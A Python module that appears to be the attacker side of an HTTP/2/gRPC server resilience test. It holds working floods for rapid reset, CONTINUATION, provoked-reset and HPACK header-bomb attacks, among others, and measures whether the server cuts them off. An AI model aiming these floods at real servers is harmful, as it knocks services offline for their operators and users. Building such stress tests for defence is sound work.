"""Hostile clients that flood, in a process of their own.

    python attackers.py NAME HOST:PORT

reads a number of seconds from each line of standard input, floods for as long, and answers with a line of
JSON (`Attack`). An attacker that is cut off comes back a little later and goes on. It ends by itself: after
its seconds, and when its standard input ends.

The bytes of each flood are made beforehand: sending is all that is left to do, so one slow attacker does more
harm than a fast one would otherwise.
"""

from __future__ import annotations

import errno
import json
import os
import random
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterable
from dataclasses import asdict, dataclass, field, replace
from functools import cache
from itertools import cycle

from frames import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    LARGE_WINDOW,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Field,
    grpc_headers,
    message,
    raw_frame,
    settings_payload,
)
from hpack import Encoder, NeverIndexedHeaderTuple

CHECK = "/grpc.health.v1.Health/Check"
WATCH_HEALTH = "/grpc.health.v1.Health/Watch"
#: Stays open, for it takes any number of requests.
REFLECT = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"

PRIORITY_UPDATE = 0x10
UNKNOWN = 0xAB

#: Between two connections of one attacker, from one address: 100 a second.
COMES_BACK_AFTER_S = 0.01

#: Streams of a flood that cannot be sent twice on one connection: each id is good for one.
STREAMS = 20_000

#: Of those that do not run ahead of the server: what they do at once.
STEP = 50


@dataclass(frozen=True)
class Flood:
    #: What is sent at full speed, and is what is hostile.
    flood: bytes
    #: Sent first, and harmless.
    opening: bytes = b""
    #: The flood is sent again and again; else once, and then the attacker waits.
    repeats: bool = True
    #: Begins with the preface and the settings, and waits for the server's.
    greets: bool = True
    #: Reads what the server answers. Who does not, is told of the end by the socket alone.
    reads: bool = True
    #: What is asked is nothing but calls, as many as can be made: who asks is not cut off, and harms nobody.
    is_borne: bool = False
    #: Sends only so many bytes, and goes on when the server has answered them with this many frames of a
    #: type: whoever does not run ahead of the server is not stopped by a limit that is on what waits.
    step_bytes: int = 0
    step_answers: tuple[int, int] = (0, 0)


@dataclass
class Attack:
    """What came of it. Times in seconds, from the first hostile byte of a connection."""

    connections: int = 0
    bytes_sent: int = 0
    #: Of each connection that was cut off: when the GOAWAY or the end was seen.
    cut_off: list[float] = field(default_factory=list)
    #: Of each that was not: for how long it had flooded.
    not_cut_off: list[float] = field(default_factory=list)
    #: The first got a GOAWAY, and then no end.
    not_closed: int = 0
    #: GOAWAY's error codes, and how often. "end": there was none.
    codes: dict[str, int] = field(default_factory=dict)
    resets_seen: int = 0
    is_borne: bool = False


# What is sent


def block(fields: Iterable[Field]) -> bytes:
    """A header block that neither uses nor changes the dynamic table: good anywhere."""
    return bytes(Encoder().encode([NeverIndexedHeaderTuple(*item) for item in fields]))


def headers(stream: int, header_block: bytes, *, end: bool = False) -> bytes:
    return raw_frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, header_block)


def reset(stream: int, code: int = CANCEL) -> bytes:
    return raw_frame(RST_STREAM, 0, stream, struct.pack(">I", code))


def window_update(stream: int, increment: int) -> bytes:
    return raw_frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def settings(*pairs: tuple[int, int]) -> bytes:
    return raw_frame(SETTINGS, 0, 0, settings_payload(pairs))


def each_stream(make: Callable[[int], bytes], count: int = STREAMS, first: int = 1) -> bytes:
    return b"".join(make(stream) for stream in range(first, first + 2 * count, 2))


def many(frame: bytes, bytes_about: int = 256 * 1024) -> bytes:
    return frame * (bytes_about // len(frame) + 1)


def in_steps(flood: Flood, frames: int, answer: int) -> Flood:
    """The same flood of so many equal parts, a few of them at a time: each part is answered with one
    frame."""
    return replace(flood, step_bytes=len(flood.flood) // frames * STEP, step_answers=(answer, STEP))


@cache
def call(path: str, *extra: Field) -> bytes:
    """The header block of a call."""
    return block(grpc_headers(path, *extra))


CALL = call(CHECK)
PATHLESS = block(grpc_headers(CHECK, drop=[":path"]))
TRAILERS = block([("x-late", "1")])
OPEN_STREAM = headers(1, call(REFLECT))
GREETING = PREFACE + settings((INITIAL_WINDOW_SIZE, LARGE_WINDOW)) + window_update(0, LARGE_WINDOW - 65_535)


def _over_the_limit() -> Flood:
    """Headers of 16 KiB, where 8 are allowed. Each call is whole, so nothing of it has to be reset."""
    oversized = block(grpc_headers(CHECK, *((f"x-{n}", "v" * 1_000) for n in range(15))))
    return Flood(each_stream(lambda stream: headers(stream, oversized, end=True), 2_000), repeats=False)


#: What names the newest entry of the dynamic table: the index after the 61 static ones.
NEWEST = b"\xbe"


def charge() -> bytes:
    """The headers of a call, with one of almost 4 KiB that fills the dynamic table."""
    return bytes(Encoder().encode([*grpc_headers(CHECK), ("x-bomb", "b" * 3_900)]))


def _bomb() -> Flood:
    """A block of 100 KiB that names a header of 4 KiB 100,000 times: 400 MB of headers."""
    fuse = block(grpc_headers(CHECK)) + NEWEST * 100_000
    parts = [fuse[at : at + 16_384] for at in range(0, len(fuse), 16_384)]

    def frames(stream: int) -> bytes:
        kinds = [HEADERS] + [CONTINUATION] * (len(parts) - 1)
        flags = [END_STREAM] + [0] * (len(parts) - 2) + [END_HEADERS]
        return b"".join(raw_frame(*item) for item in zip(kinds, flags, cycle([stream]), parts))

    return Flood(each_stream(frames, 50, first=3), headers(1, charge(), end=True), repeats=False)


def _small_bombs() -> Flood:
    """Each call has 128 KiB of headers, in some hundred bytes."""
    fuse = block(grpc_headers(CHECK)) + NEWEST * 32
    calls = each_stream(lambda stream: headers(stream, fuse, end=True), first=3)
    return Flood(calls, headers(1, charge(), end=True), repeats=False)


def _trailer_bombs() -> Flood:
    """The same as trailers, of which nobody reads anything."""
    calls = each_stream(
        lambda stream: headers(stream, CALL) + headers(stream, NEWEST * 32, end=True), first=3
    )
    return Flood(calls, headers(1, charge(), end=True), repeats=False)


def _settings_with_streams() -> Flood:
    """Each change of the initial window changes the window of every open stream: 900 of them."""
    opening = each_stream(lambda stream: headers(stream, call(REFLECT)), 900)
    pair = settings((INITIAL_WINDOW_SIZE, 65_535)) + settings((INITIAL_WINDOW_SIZE, 65_536))
    return Flood(many(pair), opening)


def _tls_hello() -> bytes:
    """The beginning of a TLS handshake, where none is expected."""
    return b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + random.Random(1).randbytes(501)


#: Each of these makes the server send one RST_STREAM for each stream, or give up on the connection.
PROVOKED: dict[str, Callable[[], Flood]] = {
    "window overflow": lambda: Flood(
        each_stream(lambda stream: headers(stream, CALL) + window_update(stream, LARGE_WINDOW)), repeats=False
    ),
    "content-length mismatch": lambda: Flood(
        each_stream(
            lambda stream: (
                headers(stream, call(CHECK, ("content-length", "1")))
                + raw_frame(DATA, END_STREAM, stream, message(b""))
            )
        ),
        repeats=False,
    ),
    "invalid headers": lambda: Flood(
        each_stream(lambda stream: headers(stream, call(CHECK, ("connection", "close")))), repeats=False
    ),
    "headers without a path": lambda: Flood(
        each_stream(lambda stream: headers(stream, PATHLESS)), repeats=False
    ),
    "empty headers": lambda: Flood(each_stream(lambda stream: headers(stream, b"")), repeats=False),
    "trailers that end nothing": lambda: Flood(
        each_stream(lambda stream: headers(stream, CALL) + headers(stream, TRAILERS)), repeats=False
    ),
    "data after the end": lambda: Flood(
        each_stream(
            lambda stream: (
                headers(stream, call(WATCH_HEALTH))
                + raw_frame(DATA, END_STREAM, stream, message(b""))
                + raw_frame(DATA, 0, stream, b"more")
            )
        ),
        repeats=False,
    ),
}


def in_steps_of(make: Callable[[], Flood]) -> Callable[[], Flood]:
    return lambda: in_steps(make(), STREAMS, RST_STREAM)


#: The same from a client that waits for those resets: it is cut off for their number alone.
PROVOKED_IN_STEPS = {
    f"{name}, step by step": in_steps_of(make)
    for name, make in PROVOKED.items()
    # That is the connection's end, and no stream's.
    if name != "data after the end"
}


#: Each is made when it is wanted: some are megabytes.
FLOODS: dict[str, Callable[[], Flood]] = {
    # Streams that the client itself resets (CVE-2023-44487).
    "rapid reset": lambda: Flood(
        each_stream(lambda stream: headers(stream, CALL) + reset(stream)), repeats=False
    ),
    "rapid reset of whole calls": lambda: Flood(
        each_stream(
            lambda stream: (
                headers(stream, CALL) + raw_frame(DATA, END_STREAM, stream, message(b"")) + reset(stream)
            )
        ),
        repeats=False,
    ),
    "resets of a closed stream": lambda: Flood(
        many(reset(1)), headers(1, CALL) + raw_frame(DATA, END_STREAM, 1, message(b""))
    ),
    # Header blocks that do not end (CVE-2024-28182).
    "continuation": lambda: Flood(
        many(raw_frame(CONTINUATION, 0, 1, block([("x-more", "v" * 100)]))), raw_frame(HEADERS, 0, 1, CALL)
    ),
    "empty continuation": lambda: Flood(many(raw_frame(CONTINUATION, 0, 1)), raw_frame(HEADERS, 0, 1, CALL)),
    # Streams that the client makes the server reset (CVE-2025-8671).
    **PROVOKED,
    **PROVOKED_IN_STEPS,
    # Answered before their end, and so with an RST_STREAM as well, but of NO_ERROR (RFC 9113, 8.1).
    "calls refused before their end": lambda: in_steps(
        Flood(
            each_stream(lambda stream: headers(stream, call("/no.such.Service/Method"))),
            repeats=False,
            is_borne=True,
        ),
        STREAMS,
        RST_STREAM,
    ),
    # Frames that cost the sender 9 bytes.
    "settings": lambda: Flood(many(settings((INITIAL_WINDOW_SIZE, LARGE_WINDOW)))),
    "empty settings": lambda: Flood(many(settings())),
    "settings, step by step": lambda: in_steps(Flood(settings() * STEP), STEP, SETTINGS),
    "settings with 900 open streams": _settings_with_streams,
    "settings, answers unread": lambda: Flood(many(settings()), reads=False),
    "settings acknowledgements": lambda: Flood(many(raw_frame(SETTINGS, ACK, 0))),
    "ping": lambda: Flood(many(raw_frame(PING, 0, 0, bytes(8)))),
    "ping, answers unread": lambda: Flood(many(raw_frame(PING, 0, 0, bytes(8))), reads=False),
    "ping acknowledgements": lambda: Flood(many(raw_frame(PING, ACK, 0, bytes(8)))),
    "priority": lambda: Flood(many(raw_frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 15))), OPEN_STREAM),
    "priority of idle streams": lambda: Flood(
        each_stream(lambda stream: raw_frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 15)), first=3)
    ),
    "priority updates": lambda: Flood(
        many(raw_frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", 1) + b"u=3")), OPEN_STREAM
    ),
    "unknown frames": lambda: Flood(many(raw_frame(UNKNOWN, 0, 0))),
    "unknown frames of 16 KiB": lambda: Flood(many(raw_frame(UNKNOWN, 0, 0, bytes(16_384)))),
    "empty data": lambda: Flood(many(raw_frame(DATA, 0, 1)), OPEN_STREAM),
    "data of padding": lambda: Flood(many(raw_frame(DATA, PADDED, 1, b"\xff" + bytes(255))), OPEN_STREAM),
    "empty data on a closed stream": lambda: Flood(
        many(raw_frame(DATA, 0, 1)), headers(1, CALL) + raw_frame(DATA, END_STREAM, 1, message(b""))
    ),
    "window updates of nothing": lambda: Flood(many(window_update(0, 0))),
    "window updates of nothing on a stream": lambda: Flood(many(window_update(1, 0)), OPEN_STREAM),
    # A smaller window first: 2^31 - 1 is the end of what it may grow to.
    "window updates of 1": lambda: Flood(
        many(window_update(0, 1)), greets=False, opening=PREFACE + settings()
    ),
    "window updates of 1 on a stream": lambda: Flood(
        many(window_update(1, 1)), greets=False, opening=PREFACE + settings() + OPEN_STREAM
    ),
    "goaway": lambda: Flood(many(raw_frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0))), OPEN_STREAM),
    # Header lists.
    "header lists over the limit": _over_the_limit,
    "header lists over the limit, step by step": lambda: in_steps(_over_the_limit(), 2_000, HEADERS),
    "header bomb": _bomb,
    "small header bombs": _small_bombs,
    "trailer bombs": _trailer_bombs,
    # Over the number of streams that the server allows.
    "too many streams": lambda: Flood(
        each_stream(lambda stream: headers(stream, call(REFLECT)), 4_000), repeats=False
    ),
    # Not HTTP/2.
    "frames over the largest size": lambda: Flood(raw_frame(DATA, 0, 1, bytes(16_385)), OPEN_STREAM),
    "HTTP/1.1": lambda: Flood(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n", greets=False, repeats=False),
    "a TLS handshake without TLS": lambda: Flood(_tls_hello(), greets=False, repeats=False),
    "noise": lambda: Flood(random.Random(1).randbytes(65_536), greets=False),
    "noise after the preface": lambda: Flood(b"\xff" + random.Random(1).randbytes(65_536)),
}


# Sending it


class Attacker:
    """One connection after the other to the same server, each of them flooding until it is cut off."""

    #: A server that has said GOAWAY has this long to close as well.
    CLOSES_WITHIN_S = 1.0
    #: Nothing here waits for longer.
    PATIENCE_S = 10.0

    def __init__(self, address: str, flood: Flood) -> None:
        host, _, port = address.rpartition(":")
        self._address = (host, int(port))
        self._flood = flood
        self._view = memoryview(flood.flood)

    def attack(self, seconds: float) -> Attack:
        end = time.monotonic() + seconds
        result = Attack(is_borne=self._flood.is_borne)
        while time.monotonic() < end:
            result.connections += 1
            try:
                with socket.create_connection(self._address, timeout=self.PATIENCE_S) as sock:
                    self._connection(sock, end, result)
            except (ConnectionError, BrokenPipeError) as error:
                # Not even let in: cut off at once.
                result.cut_off.append(0.0)
                self._count(result, type(error).__name__)
            select.select([], [], [], min(COMES_BACK_AFTER_S, max(0.0, end - time.monotonic())))
        return result

    def _connection(self, sock: socket.socket, end: float, result: Attack) -> None:
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        scanner = Scanner()
        if self._flood.greets:
            sock.sendall(GREETING)
            # The server's SETTINGS: it has taken this connection.
            hello = sock.recv(65_536)
            if not hello:
                raise ConnectionResetError
            scanner.saw_goaway(hello)
            sock.sendall(raw_frame(SETTINGS, ACK, 0))
        sock.sendall(self._flood.opening)
        sock.setblocking(False)
        began = time.monotonic()
        told, closed = self._flood_until_cut_off(sock, end, result, scanner)
        result.resets_seen += scanner.resets
        seen = min(item for item in (told, closed, float("inf")) if item is not None)
        if seen == float("inf"):
            result.not_cut_off.append(time.monotonic() - began)
        else:
            result.cut_off.append(seen - began)
            if closed is None and result.connections == 1:
                result.not_closed += 1

    def _flood_until_cut_off(
        self, sock: socket.socket, end: float, result: Attack, scanner: Scanner
    ) -> tuple[float | None, float | None]:
        """When GOAWAY was read, and when the connection ended; None where it did not."""
        told: float | None = None
        at, is_sent = 0, False
        # One in each phase sees whether the server closes; the others have no time for that and come back at
        # once.
        closes_within = self.CLOSES_WITHIN_S if result.connections == 1 else 0.0
        step = self._flood.step_bytes
        answer, answers = self._flood.step_answers
        step_end = step or len(self._view)
        poll = select.poll()
        read = select.POLLIN if self._flood.reads else 0
        while True:
            now = time.monotonic()
            if told is not None and now - told >= closes_within:
                return told, None
            if told is None and now >= end:
                return None, None
            wants = read | select.POLLRDHUP
            if not is_sent and told is None and at < step_end:
                wants |= select.POLLOUT
            poll.register(sock, wants)
            limit = end if told is None else told + closes_within
            events = dict(poll.poll(max(1, round((limit - now) * 1000)))).get(sock.fileno(), 0)
            # What came is read before an end is believed: it says why.
            if events & (select.POLLIN | select.POLLHUP | select.POLLERR) and read:
                try:
                    data = sock.recv(262_144)
                except BlockingIOError:
                    data = None
                except OSError:
                    data = b""
                if data == b"":
                    if told is None:
                        self._count(result, "end")
                    return told, time.monotonic()
                if data and scanner.saw_goaway(data) and told is None:
                    told = time.monotonic()
                    self._count(result, str(scanner.code))
                if step and at >= step_end and scanner.seen[answer] >= answers:
                    scanner.seen[answer] -= answers
                    # The last step of what may be repeated is followed by the first.
                    at = at % len(self._view) if self._flood.repeats else at
                    step_end = min(at + step, len(self._view))
            elif events & (select.POLLRDHUP | select.POLLHUP | select.POLLERR):
                self._count(result, "end")
                return told, time.monotonic()
            if events & select.POLLOUT and told is None:
                try:
                    sent = sock.send(self._view[at : min(at + 65_536, step_end)])
                except BlockingIOError:
                    continue
                except OSError as error:
                    if error.errno not in (errno.EPIPE, errno.ECONNRESET) or not read:
                        self._count(result, "end")
                        return told, time.monotonic()
                    # What it said before is still to be read.
                    is_sent = True
                    continue
                result.bytes_sent += sent
                at += sent
                if at == len(self._view) and not step:
                    at, is_sent = 0, not self._flood.repeats

    @staticmethod
    def _count(result: Attack, code: str) -> None:
        result.codes[code] = result.codes.get(code, 0) + 1


class Scanner:
    """Counts the frames that the server sends, and looks at GOAWAY alone."""

    def __init__(self) -> None:
        self._buffer = bytearray()
        #: By type: those that no step has been answered with yet.
        self.seen = [0] * 256
        self.resets = 0
        self.code: int | None = None

    def saw_goaway(self, data: bytes) -> bool:
        self._buffer += data
        buffer, at, found = self._buffer, 0, False
        while len(buffer) - at >= 9:
            next_at = at + 9 + (buffer[at] << 16 | buffer[at + 1] << 8 | buffer[at + 2])
            if next_at > len(buffer):
                break
            kind = buffer[at + 3]
            if kind == GOAWAY:
                self.code = int.from_bytes(buffer[at + 13 : at + 17], "big")
                found = True
            # Of SETTINGS the acknowledgements alone, for they are answers.
            elif kind != SETTINGS or buffer[at + 4] & ACK:
                self.seen[kind] += 1
                self.resets += kind == RST_STREAM
            at = next_at
        del buffer[:at]
        return found


def main() -> None:
    # The attacker's computing is not the server's: on a machine that both share it takes only what is left.
    os.nice(10)
    attacker = Attacker(sys.argv[2], FLOODS[sys.argv[1]]())
    print(json.dumps({"ready": True}), flush=True)
    for line in sys.stdin:
        print(json.dumps(asdict(attacker.attack(float(line)))), flush=True)


if __name__ == "__main__":
    main()
